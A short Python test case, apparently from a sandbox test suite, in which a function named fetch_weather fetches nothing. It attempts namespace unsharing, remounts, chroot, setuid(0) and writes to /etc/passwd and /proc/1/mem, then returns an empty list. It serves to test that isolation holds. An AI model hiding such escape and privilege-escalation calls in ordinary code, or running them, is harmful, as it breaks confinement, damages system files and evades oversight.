# kind: attacks on processes
# tries: namespaces of its own, mounts, another root, another user
# exercise: 03_gather_weather
# outcome: FAIL wrong-result
# needs: full
import ctypes
import os


async def fetch_weather(cities, base_url):
    libc = ctypes.CDLL(None, use_errno=True)

    def attempt(name, *args):
        print(name, getattr(libc, name)(*args), os.strerror(ctypes.get_errno()))

    attempt("unshare", 0x10000000)
    attempt("unshare", 0x00020000)
    attempt("mount", b"none", b"/tmp", b"tmpfs", 0, None)
    attempt("mount", None, b"/", None, 32 | 4096, None)
    attempt("umount2", b"/proc", 2)
    attempt("chroot", b"/tmp")
    attempt("setuid", 0)
    attempt("setns", 0, 0)
    attempt("sethostname", b"x", 1)
    for name in ("/etc/passwd", "/etc/onedelay-attack", "/usr/onedelay-attack", "/proc/sys/kernel/hostname", "/proc/1/mem"):
        try:
            with open(name, "a") as file:
                file.write("x")
            print("wrote", name)
        except OSError as error:
            print(name, error.strerror)
    return []
